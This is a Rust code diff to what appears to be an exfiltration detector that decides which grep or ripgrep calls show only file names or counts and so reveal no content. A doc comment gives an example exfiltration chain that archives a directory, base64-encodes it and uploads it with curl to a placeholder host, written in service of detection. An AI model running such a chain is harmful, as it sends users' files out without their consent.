@@ -13,8 +13,12 @@ use super::{Act, Hit, RULE, egress, happened};
 /// Files of one call that packed files are followed through: `tar c . > a; base64 a > b; curl -T b HOST`.
 const ROUNDS: usize = 8;
 
-/// Programs that search, and their options with which they show names or counts alone.
-const SEARCHING: &[&str] = &["egrep", "fgrep", "ggrep", "git", "grep", "rg", "ripgrep", "ug", "ugrep"];
+/// Programs that search, their options that show names or counts alone, and short options that may stand in one word with
+/// those because they take no value.
+const SEARCHING: &[(&[&str], &str, &str)] = &[
+    (&["egrep", "fgrep", "ggrep", "git", "grep"], "clL", "EFGHIPhinoqrswx"),
+    (&["rg", "ripgrep"], "cl", "FHPINinoqswx"),
+];
 const WITHOUT_LINES: &[&str] = &["--count", "--files-with-matches", "--files-without-match", "--name-only"];
 
 /// Files that a call gathered, and the reason why one of them may be denied.
@@ -25,7 +29,7 @@ struct Gathered {
     reason: String,
 }
 
-/// What a call read that an entry may deny, by how it goes on from there.
+/// The reads of a call that an entry may deny, by the way that their content goes.
 #[derive(Debug, Default)]
 struct Sources {
     /// The shell passes it on to a connection.
@@ -155,10 +159,13 @@ fn shows_no_content(act: &Act<'_>, call: &[Act<'_>]) -> bool {
     if COUNTING.contains(&name) {
         return true;
     }
-    let has_short = |word: &str| {
+    let Some((_, short, beside)) = SEARCHING.iter().find(|(names, ..)| names.contains(&name)) else { return false };
+    let is_known = |word: &str| {
         let letters = word.strip_prefix('-').unwrap_or_default();
-        letters.contains(['c', 'l', 'L']) && letters.chars().all(|letter| "EFHILPachiloqrsw".contains(letter))
+        !letters.is_empty() && letters.chars().all(|letter| short.contains(letter) || beside.contains(letter))
     };
-    let rest: Vec<&str> = words.skip_while(|word| name == "git" && *word != "grep").collect();
-    SEARCHING.contains(&name) && rest.iter().any(|word| WITHOUT_LINES.contains(word) || has_short(word))
+    // Behind any other option the word may be its value, and behind a pattern an operand.
+    let options = words.skip_while(|word| name == "git" && *word != "grep").skip(usize::from(name == "git"));
+    let mut options = options.take_while(|word| is_known(word) || WITHOUT_LINES.contains(word));
+    options.any(|word| WITHOUT_LINES.contains(&word) || word.contains(|letter| short.contains(letter)))
 }
